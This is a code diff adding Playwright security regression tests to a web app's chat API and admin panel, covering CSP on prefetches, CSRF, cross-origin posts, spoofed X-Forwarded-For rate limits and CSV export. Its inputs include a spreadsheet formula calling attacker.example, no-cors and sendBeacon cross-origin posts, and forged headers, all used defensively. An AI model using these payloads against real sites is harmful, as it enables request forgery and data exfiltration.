@@ -1,11 +1,13 @@
 import { randomUUID } from 'node:crypto';
+import { createServer, type Server } from 'node:http';
+import type { AddressInfo } from 'node:net';
 import { expect, test, type Page } from '@playwright/test';
 import { sessionIdOf } from '@/lib/auth/tokens';
 import { AdminPage } from './pages/admin-page';
 import { ChatPage } from './pages/chat-page';
 import { createAdminAccount, signInThroughApi, type AdminAccount } from './support/admin-session';
-import { queryE2eDatabase, waitForRows } from './support/database';
-import { validReview, validTurn } from './support/fuzz';
+import { queryE2eDatabase, waitForRows, writeE2eDatabase } from './support/database';
+import { validExplanations, validReview, validTurn } from './support/fuzz';
 
 // Security properties checked against the running production build, beyond admin.spec
 // (anonymous 401s, the cross-site sign-in, the missing and wrong CSRF token from the page).
@@ -121,6 +123,27 @@ test.describe('Content-Security-Policy', () => {
       expect(Object.fromEntries(policy), response.url()).toEqual({ 'default-src': ["'none'"], 'frame-ancestors': ["'none'"] });
       expect(response.headers()['x-content-type-options'], response.url()).toBe('nosniff');
     }
+  });
+});
+
+test.describe('Content-Security-Policy on prefetches', () => {
+  // Found by attack: `Purpose: prefetch` page responses carried no policy, and the browser may show them later.
+  test('prefetch and RSC answers for pages carry the page policy, with a fresh nonce', async ({ request }) => {
+    const prefetches: Record<string, string>[] = [
+      { purpose: 'prefetch' },
+      { 'sec-purpose': 'prefetch', purpose: 'prefetch' },
+      { 'next-router-prefetch': '1', rsc: '1' },
+      { rsc: '1' },
+    ];
+    const nonces = new Set<string>();
+    for (const path of ['/', '/admin/login']) {
+      for (const headers of prefetches) {
+        const response = await request.get(path, { headers });
+        expect(response.status(), `${path} ${JSON.stringify(headers)}`).toBe(200);
+        nonces.add(expectPagePolicy(response, `${path} ${JSON.stringify(headers)}`));
+      }
+    }
+    expect(nonces.size).toBe(8);
   });
 });
 
@@ -278,7 +301,8 @@ test.describe('state-changing admin requests', () => {
     const refused: [string, Record<string, string>, number][] = [
       ['no session', without('cookie'), 401],
       ['no CSRF token', without('x-csrf-token'), 403],
-      ['a wrong CSRF token', session.headers({ 'x-csrf-token': `${session.csrfToken.slice(0, -1)}A` }), 403],
+      // One character changed (the last one may already be "A").
+      ['a wrong CSRF token', session.headers({ 'x-csrf-token': `${session.csrfToken.slice(0, -1)}${session.csrfToken.endsWith('A') ? 'B' : 'A'}` }), 403],
       ['another session’s CSRF token', session.headers({ 'x-csrf-token': other.csrfToken }), 403],
       ['the CSRF token as a cookie instead of the header', { ...without('x-csrf-token'), cookie: `${session.headers().cookie}; x-csrf-token=${session.csrfToken}` }, 403],
       ['a foreign Origin', session.headers({ origin: 'https://attacker.example' }), 403],
@@ -340,5 +364,181 @@ test.describe('state-changing admin requests', () => {
     await replayed.goto('/admin');
     await expect(replayed).toHaveURL(/\/admin\/login$/);
     await context.close();
+  });
+});
+
+// ---------------------------------------------------------------------------------------------
+// Posts from other origins
+
+/** Chat requests counted from the loopback address: each one a browser sends reaches the rate limit first. */
+const loopbackChatRequests = () => queryE2eDatabase<{ n: number | null }>("SELECT SUM(count) AS n FROM RateLimitBucket WHERE key LIKE 'chat:client:127.0.0.1@%'")[0]!.n ?? 0;
+
+/** A page on another origin (another host name, another port), served by the test itself. */
+async function serveForeignPage(html: string): Promise<{ url: string; close(): Promise<void> }> {
+  const server: Server = createServer((_request, response) => response.writeHead(200, { 'content-type': 'text/html; charset=utf-8' }).end(html));
+  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
+  const { port } = server.address() as AddressInfo;
+  return { url: `http://localhost:${port}/`, close: () => new Promise((resolve) => server.close(() => resolve())) };
+}
+
+test.describe('posts from other origins', () => {
+  // Found by attack: a page on another origin stored a turn with fetch(…, {mode: 'no-cors'}) and an explanation with sendBeacon.
+  test('a page on another origin cannot store turns, explanations or feedback through its visitors’ browsers', async ({ page, request, baseURL }) => {
+    const target = validTurn(`aimed at ${RUN}`);
+    expect((await request.post('/api/turns', { data: target })).status()).toBe(201);
+    const turns = [0, 1, 2, 3].map((i) => validTurn(`cross-origin ${i} ${RUN}`));
+    const foreign = await serveForeignPage('<!doctype html><title>elsewhere</title><p>A page on another origin.</p>');
+    try {
+      await page.goto(foreign.url);
+      const before = loopbackChatRequests();
+      const sent = await page.evaluate(
+        async ({ api, turns, predictionId, replyId, explanations, feedback }) => {
+          const outcomes: string[] = [];
+          const attempt = async (what: string, work: () => Promise<unknown>) => {
+            try {
+              await work();
+              outcomes.push(`${what}: sent`);
+            } catch (error) {
+              outcomes.push(`${what}: ${String(error)}`);
+            }
+          };
+          await attempt('text/plain', () => fetch(`${api}/api/turns`, { method: 'POST', mode: 'no-cors', body: JSON.stringify(turns[0]) }));
+          const form = new FormData();
+          form.append('turn', JSON.stringify(turns[1]));
+          await attempt('multipart', () => fetch(`${api}/api/turns`, { method: 'POST', mode: 'no-cors', body: form }));
+          await attempt('urlencoded', () => fetch(`${api}/api/turns`, { method: 'POST', mode: 'no-cors', body: new URLSearchParams({ turn: JSON.stringify(turns[2]) }) }));
+          await attempt('beacon', async () => {
+            if (!navigator.sendBeacon(`${api}/api/predictions/${predictionId}/explanations`, JSON.stringify(explanations))) throw new Error('not queued');
+          });
+          // With a JSON type the browser must ask first (a preflight), which this site never grants.
+          await attempt('json', () => fetch(`${api}/api/turns`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify(turns[3]) }));
+          await attempt('feedback', () => fetch(`${api}/api/messages/${replyId}/feedback`, { method: 'PUT', headers: { 'content-type': 'application/json' }, body: JSON.stringify(feedback) }));
+          return outcomes;
+        },
+        { api: new URL(baseURL!).origin, turns, predictionId: target.prediction.id, replyId: target.reply.id, explanations: validExplanations(), feedback: { id: crypto.randomUUID(), helpful: false, comment: `cross-origin ${RUN}` } },
+      );
+      // The two that need a preflight were stopped by the browser; the four simple ones went out
+      // (their answers are opaque, or blocked by the API's Cross-Origin-Resource-Policy).
+      expect(sent[3]).toBe('beacon: sent');
+      expect(sent.slice(4).every((outcome) => /TypeError/.test(outcome)), sent.join('; ')).toBe(true);
+      // Those four reached the server (each counted by the rate limit before being refused), the others never did…
+      await expect.poll(() => loopbackChatRequests() - before, { timeout: 10_000 }).toBe(4);
+    } finally {
+      await foreign.close();
+    }
+    // …and stored nothing.
+    const ids = turns.map((turn) => turn.conversationId);
+    expect(queryE2eDatabase(`SELECT id FROM Conversation WHERE id IN (${ids.map(() => '?').join(', ')})`, ...ids)).toEqual([]);
+    expect(queryE2eDatabase('SELECT id FROM Explanation WHERE predictionId = ?', target.prediction.id)).toEqual([]);
+    expect(queryE2eDatabase('SELECT id FROM Feedback WHERE messageId = ?', target.reply.id)).toEqual([]);
+  });
+
+  test('the chat API refuses bodies that are not declared JSON, and requests whose Origin is another site', async ({ request, baseURL }) => {
+    const turn = validTurn(`refused ${RUN}`);
+    const body = JSON.stringify(turn);
+    for (const type of ['text/plain', 'text/plain;charset=UTF-8', 'application/x-www-form-urlencoded', 'multipart/form-data; boundary=x']) {
+      const response = await request.post('/api/turns', { headers: { 'content-type': type }, data: body });
+      expect(response.status(), type).toBe(415);
+      expect((await response.json()).error.code, type).toBe('unsupported_media_type');
+    }
+    for (const origin of ['https://attacker.example', 'null', `${new URL(baseURL!).origin}.attacker.example`]) {
+      const response = await request.post('/api/turns', { headers: { origin }, data: turn });
+      expect(response.status(), origin).toBe(403);
+      expect((await response.json()).error.code, origin).toBe('cross_origin');
+    }
+    expect(queryE2eDatabase('SELECT id FROM Conversation WHERE id = ?', turn.conversationId)).toEqual([]);
+    // The same turn from the site's own page (its Origin) or a program (none), as JSON, is stored.
+    expect((await request.post('/api/turns', { headers: { origin: new URL(baseURL!).origin, 'content-type': 'application/json; charset=utf-8' }, data: body })).status()).toBe(201);
+  });
+});
+
+// ---------------------------------------------------------------------------------------------
+// Sign-in limits and client addresses
+
+test.describe('sign-in limits', () => {
+  // Found by attack: ten wrong passwords, each with another spoofed X-Forwarded-For, locked the real admin out for 14 minutes.
+  test('wrong passwords from many addresses do not lock the admin out of their own address', async ({ request, baseURL }) => {
+    const admin = await createAdminAccount('lockout-admin@example.com');
+    const origin = new URL(baseURL!).origin;
+    for (let i = 0; i < 12; i++) {
+      const response = await request.post('/api/admin/login', { headers: { origin, 'x-forwarded-for': `198.18.7.${i}` }, data: { email: admin.email, password: `guess ${i}` } });
+      expect(response.status(), `guess ${i}`).toBe(401);
+    }
+    const own = await request.post('/api/admin/login', { headers: { origin, 'x-forwarded-for': '203.0.113.200' }, data: admin });
+    expect(own.status()).toBe(200);
+    expect(own.headers()['set-cookie']).toContain('__Host-glassdesk-admin=');
+  });
+
+  // Found by attack: an empty X-Forwarded-For, or ",", made the client "unknown", which meant no limit at all.
+  test('a request with an empty or malformed X-Forwarded-For is counted against its socket address', async ({ request, baseURL }) => {
+    const counted = (prefix: string) => queryE2eDatabase<{ n: number | null }>('SELECT SUM(count) AS n FROM RateLimitBucket WHERE key LIKE ?', `${prefix}%`)[0]!.n ?? 0;
+    const origin = new URL(baseURL!).origin;
+    const loginBefore = counted('login:client:127.0.0.1@');
+    const chatBefore = counted('chat:client:127.0.0.1@');
+    // Two sign-in attempts only: every spec signs in from this address, within its budget.
+    for (const header of [',', 'garbage']) {
+      const response = await request.post('/api/admin/login', { headers: { origin, 'x-forwarded-for': header }, data: { email: `nobody-${RUN}@example.com`, password: 'not a password' } });
+      expect(response.status(), JSON.stringify(header)).toBe(401);
+    }
+    const malformed = ['', ',', ' , ', 'garbage', 'unknown'];
+    for (const header of malformed) {
+      expect((await request.post('/api/turns', { headers: { 'x-forwarded-for': header }, data: validTurn(`forwarded ${JSON.stringify(header)} ${RUN}`) })).status()).toBe(201);
+    }
+    expect(counted('login:client:127.0.0.1@') - loginBefore).toBe(2);
+    expect(counted('chat:client:127.0.0.1@') - chatBefore).toBe(malformed.length);
+    // The server's own record of the socket cannot be forged by sending it.
+    const forged = await request.post('/api/turns', { headers: { 'x-forwarded-for': ',', 'x-glassdesk-peer-address': '192.0.2.99' }, data: validTurn(`forged peer ${RUN}`) });
+    expect(forged.status()).toBe(201);
+    expect(counted('chat:client:192.0.2.99@')).toBe(0);
+    expect(counted('chat:client:unknown@') + counted('login:client:unknown@')).toBe(0);
+  });
+});
+
+// ---------------------------------------------------------------------------------------------
+// Admin parameters, reviews and exports
+
+test.describe('admin parameters, reviews and exports', () => {
+  // An admin of its own: sign-ins are limited per account and address, and the specs above use theirs.
+  let reviewer: AdminAccount;
+  test.beforeAll(async () => {
+    reviewer = await createAdminAccount('security-reviewer@example.com');
+  });
+
+  // Found by attack: `in` matched inherited keys, so these periods were a 500.
+  test('overview periods named like Object’s own properties are the default period', async ({ request, playwright, baseURL }) => {
+    const session = await signInThroughApi(playwright.request, baseURL!, reviewer);
+    for (const days of ['constructor', '__proto__', 'toString', 'hasOwnProperty']) {
+      const response = await request.get(`/api/admin/overview?days=${days}`, { headers: session.headers() });
+      expect(response.status(), days).toBe(200);
+      const since = new Date((await response.json()).since).getTime();
+      expect(Math.abs(Date.now() - 30 * 24 * 60 * 60 * 1000 - since), days).toBeLessThan(60_000);
+      // The page reads the same parameters.
+      const page = await request.get(`/admin/overview?days=${days}&intent=${days}`, { headers: session.headers() });
+      expect(page.status(), days).toBe(200);
+    }
+  });
+
+  // Found by attack: Mark correct copied the reported intent into the training label unchecked, and the training export wrote formulas raw.
+  test('Mark correct takes only the model’s labels, and the training export defuses formulas', async ({ request, playwright, baseURL }) => {
+    const session = await signInThroughApi(playwright.request, baseURL!, reviewer);
+    const review = (id: string, data: unknown) => request.post(`/api/admin/predictions/${id}/review`, { headers: session.headers(), data });
+    // A prediction row that reports a label the model does not have (as older rows may).
+    const forged = validTurn(`forged label ${RUN}`);
+    expect((await request.post('/api/turns', { data: forged })).status()).toBe(201);
+    expect(writeE2eDatabase('UPDATE Prediction SET intent = ? WHERE id = ?', '-2+3', forged.prediction.id)).toBe(1);
+    const refused = await review(forged.prediction.id, { action: 'correct' });
+    expect(refused.status()).toBe(400);
+    expect(queryE2eDatabase('SELECT reviewStatus, reviewedIntent FROM Prediction WHERE id = ?', forged.prediction.id)).toEqual([{ reviewStatus: 'unreviewed', reviewedIntent: null }]);
+    expect((await review(forged.prediction.id, { action: 'relabel', intent: 'HYPERLINK' })).status()).toBe(400);
+
+    const formula = `=HYPERLINK("http://attacker.example/?${RUN}","open")`;
+    const turn = validTurn(formula);
+    expect((await request.post('/api/turns', { data: turn })).status()).toBe(201);
+    expect((await review(turn.prediction.id, { action: 'correct' })).status()).toBe(201);
+    const exported = await request.get('/api/admin/export?format=training', { headers: session.headers() });
+    expect(exported.status()).toBe(200);
+    const lines = (await exported.text()).split('\n');
+    expect(lines).toContain(`"'=HYPERLINK(""http://attacker.example/?${RUN}"",""open"")",card_arrival`);
+    expect(lines.filter((line) => /^"?[=+\-@\t\r]/.test(line))).toEqual([]);
   });
 });
